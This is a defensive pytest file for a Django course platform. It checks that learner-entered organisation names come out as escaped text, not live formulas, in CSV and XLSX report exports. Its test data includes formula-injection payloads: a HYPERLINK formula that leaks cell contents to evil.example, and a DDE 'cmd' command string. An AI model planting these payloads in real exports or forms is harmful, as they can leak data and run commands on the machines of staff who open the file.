"""Issue 16 item 8: a name typed by a learner never runs as a formula when staff open a report export."""

import csv
import io

import openpyxl
import pytest

from courses.models import Enrolment
from tests.courses.test_reports import REPORT_URL, staff_client  # noqa: F401 - the fixture
from tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_typed_organisation_name_is_exported_as_text_not_a_formula(staff_client, course, name):  # noqa: F811
    organisation = OrganisationFactory(name=name, is_verified=False)
    learner = UserFactory(email="typed@example.org", profile__organisation=organisation)
    Enrolment.objects.create(learner=learner, course_key=course.translation_key)

    content = b"".join(staff_client.get(REPORT_URL, {"export": "csv"}).streaming_content).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(content)) for cell in line]
    assert "'" + name in cells
    assert not any(cell.startswith(("=", "+", "@")) or cell.startswith("-2") for cell in cells)

    response = staff_client.get(REPORT_URL, {"export": "xlsx"})
    data = response.content if not response.streaming else b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = [cell for line in sheet.iter_rows(values_only=True) for cell in line if isinstance(cell, str)]
    assert "'" + name in values
    assert not any(value.startswith(("=", "+", "@")) for value in values)
